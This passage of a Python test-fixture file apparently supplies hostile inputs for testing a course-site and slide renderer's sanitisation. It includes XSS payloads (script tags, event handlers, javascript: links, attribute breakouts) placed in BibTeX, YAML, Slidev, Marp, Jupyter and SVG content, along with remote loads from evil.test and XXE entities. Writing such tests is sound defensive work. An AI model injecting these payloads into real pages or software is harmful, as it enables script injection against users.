@article{a, title={<img src=graphics/a.png onload=hit()>}, author={<script>hit()</script>, X}, url={javascript:hit()}, year={2020}}
@article{b, title={B}, author={B}, doi={x"><img src=graphics/a.png onload=hit()>}, note={\\href{javascript:hit()}{x}}, year={2021}}
"""
_WORDS = (
    r"`<script>hit()</script>` \<img src=graphics/a.png onload=hit()\> </script> <img src=graphics/a.png onload=hit()>"
)
HOME = f"""---
title: 'T {_WORDS}'
subtitle: 'S {_WORDS}'
description: 'D {_WORDS} <script>hit()</script>'
institution: 'I {_WORDS}'
license: 'L {_WORDS}'
instructors: ['A {_WORDS}', '[x](javascript:hit())']
timezone: Europe/Berlin
meetings: [{{date: 2020-10-05, time: '10:00-11:00', place: '[r](javascript:hit()) {_WORDS}', title: 'M {_WORDS}'}}]
assignments:
  - {{title: 'W {_WORDS}', due: 2020-11-01, points: '<svg onload=hit()>', link: 'javascript:hit()'}}
  - {{title: 'V', due: 2020-11-02, link: 'https://example.org/" onmouseover="hit()'}}
exams: [{{title: 'E ]]> {_WORDS}', date: 2020-12-01}}]
announcements:
  - {{date: 2020-10-02, title: 'N ]]> {_WORDS}', text: '<script>hit()</script> [x](javascript:hit()) ![i](https://evil.test/a)'}}
  - {{date: 2020-10-01, text: '\\<img src=graphics/a.png onload=hit()\\> ]]> </content>'}}
staff:
  - {{name: 'P {_WORDS}', email: '"onmouseover="hit()"@evil.test', url: ' JaVaScRiPt:hit()', office-hours: '{_WORDS}'}}
---

{_WORDS}
"""
_CELL = "# N <svg onload=hit()>\\n\\n<script>hit()</script> [x](javascript:hit()) ![y](attachment:z.svg)"
DECKS = {  # of other tools
    "slidev.md": """---
theme: seriph
background: https://evil.test/a.jpg
class: 'x" onclick="hit()'
layout: iframe
url: https://evil.test/
---

# A

<v-click><script>hit()</script></v-click> <script setup>hit()</script> <img src=graphics/a.png onload=hit()>

<div v-html="'<svg onload=hit()>'" @click="hit()" v-on:click="hit()">x</div> {{ hit() }} <SlidevVideo src="https://evil.test/x.mp4" autoplay/>

---
layout: image-right
image: https://evil.test/x.png
---

# B

<style>h1 { background: url(https://evil.test/q) }</style> <!-- <svg onload=hit()> -->
""",
    "marp.md": """---
marp: true
style: 'section { background: url(https://evil.test/m) }'
backgroundImage: url(https://evil.test/m2)
color: url(https://evil.test/c)
header: '<img src=graphics/a.png onload=hit()>'
footer: '<img src=graphics/a.png onload=hit()> `<svg onload=hit()>`'
---

# A

![bg](https://evil.test/bg.png) <!-- _backgroundImage: url('javascript:hit()') --> <!-- _class: x" onclick=hit() -->

![bg left:33% filter:url(https://evil.test/f)](graphics/a.png)
""",
    "jupytext.py": """# ---
# jupyter:
#   kernelspec:
#     display_name: '<svg onload=hit()>'
#     name: python3
# ---

# %% [markdown]
# # J <img src=graphics/a.png onload=hit()> <script>hit()</script> [x](javascript:hit())

# %% [raw]
# <script>hit()</script>
""",
    "jupyter.ipynb": f"""{{"nbformat": 4, "nbformat_minor": 5, "metadata": {{
  "title": "<svg onload=hit()>", "kernelspec": {{"name": "x", "display_name": "X", "language": "x><svg onload=hit()>"}},
  "rise": {{"theme": "https://evil.test/x.css", "header": "<svg onload=hit()>"}}}},
"cells": [
  {{"cell_type": "markdown", "id": "a", "metadata": {{"tags": ["<svg onload=hit()>"]}}, "source": "{_CELL}",
   "attachments": {{"z.svg": {{"image/svg+xml": "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iaGl0KCkiLz4="}}}}}},
  {{"cell_type": "code", "id": "b", "metadata": {{}}, "execution_count": 1, "source": "1", "outputs": [
   {{"output_type": "display_data", "metadata": {{}}, "data": {{"text/html": "<script>hit()</script><svg onload=hit()>"}}}}]}}]}}
""",
}
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"'
PICTURES = (
    f"{_SVG} onload='hit()'/>",
    f"{_SVG}><script>hit()</script></svg>",
    f"{_SVG}><script xlink:href='https://evil.test/x.js'/></svg>",
    f"{_SVG}><s:script xmlns:s='http://www.w3.org/2000/svg'>hit()</s:script></svg>",
    f"{_SVG}><h:script xmlns:h='http://www.w3.org/1999/xhtml'>hit()</h:script></svg>",
    f"{_SVG}><h:img xmlns:h='http://www.w3.org/1999/xhtml' src='x' onerror='hit()'/></svg>",
    f"{_SVG}><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='hit()'/></foreignObject></svg>",
    f"{_SVG}><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='https://evil.test/'/></foreignObject></svg>",
    f"{_SVG}><image href='https://evil.test/a.png' width='9' height='9'/></svg>",
    f"{_SVG}><image xlink:href='//evil.test/a.png' width='9' height='9'/></svg>",
    f"{_SVG}><use href='https://evil.test/a.svg#x'/></svg>",
    f"{_SVG}><a href='javascript:hit()'><rect width='9' height='9'/></a></svg>",
    f"{_SVG}><a xlink:href='javas&#x09;cript:hit()'><rect width='9' height='9'/></a></svg>",
    f"{_SVG}><a><set attributeName='href' to='javascript:hit()'/><rect width='9' height='9'/></a></svg>",
    f"{_SVG}><animate onbegin='hit()' attributeName='x' dur='1s'/></svg>",
    f"{_SVG}><style>@import 'https://evil.test/a.css';</style></svg>",
    f"{_SVG}><style>rect{{fill:url(https://evil.test/a#b)}}</style><rect width='9' height='9'/></svg>",
    f"{_SVG}><style>@font-face{{font-family:x;src:url(//evil.test/a)}}text{{font-family:x}}</style><text y='9'>t</text></svg>",
    f"{_SVG}><style><![CDATA[rect{{background:u\\72l(//evil.test/a)}}]]></style><rect width='9' height='9'/></svg>",
    f"{_SVG}><rect style='fill:url(//evil.test/a#b)' width='9' height='9'/></svg>",
    f"<?xml-stylesheet href='https://evil.test/a.css'?>{_SVG}/>",
    f"<?xml-stylesheet type='text/xsl' href='https://evil.test/a.xsl'?>{_SVG}/>",
    f"<!DOCTYPE svg [<!ENTITY x '<script xmlns=\"http://www.w3.org/2000/svg\">hit()</script>'>]>{_SVG}>&x;</svg>",
    f"<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'hit()'>]>{_SVG}/>",
    f"<!DOCTYPE svg [<!ENTITY x SYSTEM 'https://evil.test/x'>]>{_SVG}>&x;</svg>",
    f"<!DOCTYPE svg SYSTEM 'https://evil.test/x.dtd'>{_SVG}/>",
    f"{_SVG}><filter id='f'><feImage href='https://evil.test/a.png'/></filter><rect filter='url(#f)' width='9' height='9'/></svg>",
    f"{_SVG} xml:base='https://evil.test/'><image href='a.png' width='9' height='9'/></svg>",
    f"{_SVG}><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>hit()</handler></svg>",
    f"{_SVG}><link xmlns='http://www.w3.org/1999/xhtml' rel='stylesheet' href='https://evil.test/a.css'/></svg>",
)


def attacks(kind: str) -> list[str]:
    """The attacks of a kind, one a line of the table: `\\n` stands for a line's end there, `\\x0b` for a character."""
    lines = ATTACKS[kind].strip("\n").split("\n")
    return [_unescaped(line) for line in lines]


def _unescaped(line: str) -> str:
    for written, meant in (
        ("\\n", "\n"),
        ("\\x0b", "\x0b"),
        ("\\x01", "\x01"),
        ("\\x00", "\ufffd"),
        ("\\u2028", "\u2028"),
    ):
        line = line.replace(written, meant)
    return line
